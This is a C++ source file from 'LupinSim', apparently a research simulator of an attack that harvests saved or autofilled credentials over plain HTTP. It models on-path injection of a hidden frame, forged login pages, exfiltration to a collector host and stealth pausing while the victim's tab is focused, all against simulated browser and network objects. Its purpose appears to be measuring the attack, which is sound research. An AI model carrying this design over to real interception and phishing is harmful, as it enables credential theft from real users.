// Copyright 2026 The LupinSim Authors. All rights reserved.
// Use of this source code is governed by a BSD-style license that can be
// found in the LICENSE file.

#include "lupin/attack.h"

#include <algorithm>
#include <cstdio>
#include <sstream>
#include <stdexcept>

namespace lupin {

namespace {

void SetError(std::string* error, std::string message) {
  if (error)
    *error = std::move(message);
}

std::vector<std::string_view> SplitLines(std::string_view text) {
  std::vector<std::string_view> lines;
  size_t pos = 0;
  while (pos <= text.size()) {
    size_t eol = text.find('\n', pos);
    if (eol == std::string_view::npos) {
      if (pos < text.size())
        lines.push_back(text.substr(pos));
      break;
    }
    lines.push_back(text.substr(pos, eol - pos));
    pos = eol + 1;
  }
  return lines;
}

std::vector<std::string_view> SplitTabs(std::string_view line) {
  std::vector<std::string_view> fields;
  size_t start = 0;
  while (true) {
    size_t tab = line.find('\t', start);
    if (tab == std::string_view::npos) {
      fields.push_back(line.substr(start));
      return fields;
    }
    fields.push_back(line.substr(start, tab - start));
    start = tab + 1;
  }
}

std::string FormatWpm(double wpm) {
  char buffer[32];
  std::snprintf(buffer, sizeof(buffer), "%.2f", wpm);
  return buffer;
}

}  // namespace

void ValidateTargetList(const TargetList& targets) {
  if (targets.sites.empty())
    throw std::invalid_argument("target list is empty");
  for (const Url& site : targets.sites) {
    if (site.scheme != Scheme::kHttp)
      throw std::invalid_argument("target is not plain http: " +
                                  site.ToString());
  }
}

std::optional<TargetList> ParseTargets(std::string_view text,
                                       std::string* error) {
  TargetList targets;
  size_t line_number = 0;
  for (std::string_view line : SplitLines(text)) {
    ++line_number;
    if (line.empty() || line[0] == '#')
      continue;
    std::string url_error;
    std::optional<Url> url = ParseUrl(line, &url_error);
    if (!url) {
      SetError(error, "line " + std::to_string(line_number) + ": " +
                          url_error);
      return std::nullopt;
    }
    targets.sites.push_back(std::move(*url));
  }
  return targets;
}

bool ParseKnownFormsInto(TargetList& targets, std::string_view text,
                         std::string* error) {
  size_t line_number = 0;
  for (std::string_view line : SplitLines(text)) {
    ++line_number;
    if (line.empty() || line[0] == '#')
      continue;
    std::vector<std::string_view> fields = SplitTabs(line);
    if (fields.size() != 4) {
      SetError(error, "line " + std::to_string(line_number) +
                          ": expected 4 tab-separated fields, got " +
                          std::to_string(fields.size()));
      return false;
    }
    std::string url_error;
    std::optional<Url> action = ParseUrl(fields[1], &url_error);
    if (!action) {
      SetError(error, "line " + std::to_string(line_number) +
                          ": action_url: " + url_error);
      return false;
    }
    if (fields[2].empty() || fields[3].empty()) {
      SetError(error, "line " + std::to_string(line_number) +
                          ": field names must be nonempty");
      return false;
    }
    LoginForm form;
    form.action = std::move(*action);
    form.username_field_name.assign(fields[2]);
    form.password_field_name.assign(fields[3]);
    targets.known_forms[std::string(fields[0])] = std::move(form);
  }
  return true;
}

InjectionPayload BuildInjection(const TargetList& targets,
                                const AttackConfig& config) {
  InjectionPayload payload;
  PageSpec& frame = payload.attack_frame;
  frame.url = config.benign_url;  // same document identity as the carrier
  frame.visual = PageSpec::Visual::kHidden1px;

  ScriptBehavior crawl;
  crawl.kind = ScriptBehavior::Kind::kNavigateChildren;
  crawl.poll_delay_ms = config.poll_delay_ms;
  crawl.collector = config.collector;
  crawl.next_targets = targets.sites;
  frame.scripts.push_back(std::move(crawl));
  return payload;
}

HttpMessage InjectIntoResponse(const HttpMessage& response,
                               const InjectionPayload& payload) {
  if (response.encrypted)
    throw CapabilityViolation("cannot inject into an encrypted response");
  HttpMessage out = response;
  auto* page = std::get_if<PageSpec>(&out.body);
  if (!page)
    throw std::invalid_argument("response carries no document to inject into");
  page->inline_children.push_back(payload.attack_frame);
  return out;
}

PageSpec ForgeLoginPage(const Url& request_url, const TargetList& targets,
                        const AttackConfig& config) {
  PageSpec page;
  page.url = request_url;

  LoginForm form;
  auto known = targets.known_forms.find(request_url.host);
  if (known != targets.known_forms.end()) {
    form = known->second;
  } else {
    // Sites commonly post their login to their own secure side.
    Origin twin = HttpsTwin(OriginOf(request_url));
    form.action = Url{twin.scheme, twin.host, twin.port, kGuessActionPath, ""};
    form.username_field_name = kGuessUsernameField;
    form.password_field_name = kGuessPasswordField;
  }
  page.forms.push_back(std::move(form));

  ScriptBehavior read;
  read.kind = ScriptBehavior::Kind::kReadFormsAndExfiltrate;
  read.poll_delay_ms = config.poll_delay_ms;
  read.collector = config.collector;
  page.scripts.push_back(std::move(read));
  return page;
}

LupinAttack::LupinAttack(EventLoop* loop, Network* net, Browser* browser,
                         TargetList targets, AttackConfig config)
    : loop_(loop),
      net_(net),
      browser_(browser),
      targets_(std::move(targets)),
      config_(std::move(config)),
      payload_(BuildInjection(targets_, config_)) {}

void LupinAttack::Arm() {
  ValidateTargetList(targets_);
  for (const Url& site : targets_.sites)
    target_hosts_.insert(site.host);
  if (target_hosts_.count(config_.benign_url.host) ||
      target_hosts_.count(config_.collector.host)) {
    throw std::invalid_argument(
        "benign and collector hosts must not be crawl targets");
  }

  net_->BecomeGateway(browser_->victim_id());
  net_->SetRequestHook(
      [this](const MessageView& view) { return OnRequest(view); });
  net_->SetResponseHook(
      [this](const MessageView& view) { return OnResponse(view); });

  // The drop point for everything the capture scripts report.
  Network::ServerConfig collector;
  collector.serves_http = true;
  collector.handler = [this](const HttpMessage& request) {
    if (const auto* bundle = std::get_if<ExfilBundle>(&request.body)) {
      harvest_.insert(harvest_.end(), bundle->records.begin(),
                      bundle->records.end());
    }
    PageSpec ack;
    ack.url = request.url;
    return ack;
  };
  net_->AddServer(config_.collector.host, std::move(collector));

  browser_->set_navigate_children_delegate(
      [this](FrameNode& frame, const ScriptBehavior& script) {
        OnControllerScript(frame, script);
      });
  browser_->set_form_read_handler(
      [this](FrameNode& frame, const std::vector<ExfilRecord>& records) {
        return OnFormsRead(frame, records);
      });
  browser_->set_load_observer(
      [this](FrameNode& frame, bool ok) { OnFrameLoad(frame, ok); });
  browser_->set_focus_observer(
      [this](Tab* tab, bool focused) { OnFocusChange(tab, focused); });
}

HookDecision LupinAttack::OnRequest(const MessageView& view) {
  if (view.encrypted)
    return HookDecision::Pass();
  const HttpMessage& request = *view.message;
  if (request.url.scheme == Scheme::kHttp &&
      target_hosts_.count(request.url.host)) {
    HttpMessage response;
    response.url = request.url;
    response.body = ForgeLoginPage(request.url, targets_, config_);
    return HookDecision::Forge(std::move(response));
  }
  return HookDecision::Pass();
}

HookDecision LupinAttack::OnResponse(const MessageView& view) {
  if (view.encrypted)
    return HookDecision::Pass();
  const HttpMessage& response = *view.message;
  if (!injected_ && response.url == config_.benign_url &&
      std::holds_alternative<PageSpec>(response.body)) {
    injected_ = true;
    return HookDecision::Modify(InjectIntoResponse(response, payload_));
  }
  return HookDecision::Pass();
}

void LupinAttack::OnControllerScript(FrameNode& frame,
                                     const ScriptBehavior& script) {
  if (script.kind != ScriptBehavior::Kind::kNavigateChildren)
    return;
  if (controller_frame_)
    return;  // one controller per run
  controller_frame_ = &frame;
  attack_tab_ = frame.tab;
  total_targets_ = script.next_targets.size();

  const size_t worker_count = std::min<size_t>(
      std::max(config_.fanout, 1), script.next_targets.size());
  workers_.resize(worker_count);
  for (size_t i = 0; i < worker_count; ++i) {
    workers_[i].frame = &browser_->CreateChildFrame(frame);
    for (size_t t = i; t < script.next_targets.size(); t += worker_count)
      workers_[i].queue.push_back(script.next_targets[t]);
  }
  PumpAll();
}

LupinAttack::Worker* LupinAttack::FindWorker(const FrameNode& frame) {
  for (Worker& worker : workers_) {
    if (worker.frame == &frame)
      return &worker;
  }
  return nullptr;
}

void LupinAttack::Pump(Worker& worker) {
  if (worker.busy)
    return;
  if (worker.queue.empty()) {
    MaybeFinish();
    return;
  }
  if (attack_tab_->focused())
    return;  // parked; the user would notice the loading indicator
  worker.busy = true;
  Url next = std::move(worker.queue.front());
  worker.queue.pop_front();
  if (first_navigation_ms_ < 0)
    first_navigation_ms_ = loop_->now();
  browser_->LoadFrame(*worker.frame, next);
}

void LupinAttack::PumpAll() {
  for (Worker& worker : workers_)
    Pump(worker);
}

void LupinAttack::Settle(Worker& worker, bool explored) {
  worker.busy = false;
  if (explored)
    ++explored_;
  else
    ++failed_;
  last_settled_ms_ = loop_->now();
  Pump(worker);
  MaybeFinish();
}

void LupinAttack::MaybeFinish() {
  if (finished_ || explored_ + failed_ != total_targets_ ||
      total_targets_ == 0)
    return;
  finished_ = true;
  if (!bundle_.empty()) {
    SendBundle(std::move(bundle_));
    bundle_.clear();
  }
}

bool LupinAttack::OnFormsRead(FrameNode& frame,
                              const std::vector<ExfilRecord>& records) {
  Worker* worker = FindWorker(frame);
  if (!worker)
    return false;  // not one of ours; the page's own script handles it
  if (config_.stream_exfil) {
    if (!records.empty())
      SendBundle(records);
  } else {
    bundle_.insert(bundle_.end(), records.begin(), records.end());
  }
  Settle(*worker, /*explored=*/true);
  return true;
}

void LupinAttack::OnFrameLoad(FrameNode& frame, bool ok) {
  Worker* worker = FindWorker(frame);
  if (!worker || !worker->busy)
    return;
  if (!ok) {
    Settle(*worker, /*explored=*/false);
    return;
  }
  // A document that polls its forms settles later, on the read. One
  // without the capture script ends the visit here; that is what comes
  // back when the manager bounces the frame to the real HTTPS page.
  const bool will_poll = std::any_of(
      frame.page->scripts.begin(), frame.page->scripts.end(),
      [](const ScriptBehavior& s) {
        return s.kind == ScriptBehavior::Kind::kReadFormsAndExfiltrate;
      });
  if (!will_poll)
    Settle(*worker, /*explored=*/true);
}

void LupinAttack::OnFocusChange(Tab* tab, bool focused) {
  if (tab == attack_tab_ && !focused)
    PumpAll();
}

void LupinAttack::SendBundle(std::vector<ExfilRecord> records) {
  HttpMessage message;
  message.kind = HttpMessage::Kind::kRequest;
  message.url = config_.collector;
  message.body = ExfilBundle{std::move(records)};
  net_->SendRequest(browser_->victim_id(), std::move(message),
                    [](std::optional<HttpMessage>) {});
}

RunMetrics LupinAttack::metrics() const {
  RunMetrics m;
  m.pages_explored = explored_;
  m.pages_failed = failed_;
  m.credentials_harvested = harvest_.size();
  if (first_navigation_ms_ >= 0 && last_settled_ms_ >= first_navigation_ms_)
    m.elapsed_ms = last_settled_ms_ - first_navigation_ms_;
  if (m.elapsed_ms > 0) {
    m.websites_per_minute =
        static_cast<double>(explored_) * 60000.0 / m.elapsed_ms;
  }
  return m;
}

AttackOutcome RunAttack(EventLoop* loop, Network* net, Browser* browser,
                        TargetList targets, AttackConfig config,
                        const VictimPlan& plan) {
  const Url benign_url = config.benign_url;
  LupinAttack attack(loop, net, browser, std::move(targets),
                     std::move(config));
  attack.Arm();

  Tab* tab = browser->CreateTab("victim-tab");
  // Focus tasks are scheduled first so a change at time zero applies
  // before the navigation does.
  for (const auto& [time_ms, focused] : plan.changes) {
    loop->ScheduleAt(time_ms, [browser, tab, focused = focused] {
      browser->FocusTab(focused ? tab : nullptr);
    });
  }
  loop->ScheduleAt(0, [browser, tab, benign_url] {
    browser->LoadFrame(tab->root(), benign_url);
  });
  // Reloads replace the victim document; a reload before the crawl is done
  // tears the injected frame out from under it.
  for (int k = 1; k <= plan.refresh_count; ++k) {
    loop->ScheduleAt(k * plan.refresh_interval_ms, [browser, tab, benign_url] {
      browser->LoadFrame(tab->root(), benign_url);
    });
  }

  loop->RunUntilIdle();
  return AttackOutcome{attack.harvest(), attack.metrics()};
}

std::string SerializeHarvest(const std::vector<HarvestRecord>& harvest,
                             const RunMetrics& metrics) {
  std::ostringstream out;
  out << SerializeMetrics(metrics);
  for (const HarvestRecord& record : harvest) {
    out << record.site_origin.ToString() << '\t' << record.username << '\t'
        << record.password << '\t' << record.observed_at << '\n';
  }
  return out.str();
}

std::string SerializeMetrics(const RunMetrics& metrics) {
  std::ostringstream out;
  out << "# pages_explored=" << metrics.pages_explored
      << " pages_failed=" << metrics.pages_failed
      << " credentials_harvested=" << metrics.credentials_harvested
      << " elapsed_ms=" << metrics.elapsed_ms
      << " websites_per_minute=" << FormatWpm(metrics.websites_per_minute)
      << '\n';
  return out.str();
}

}  // namespace lupin
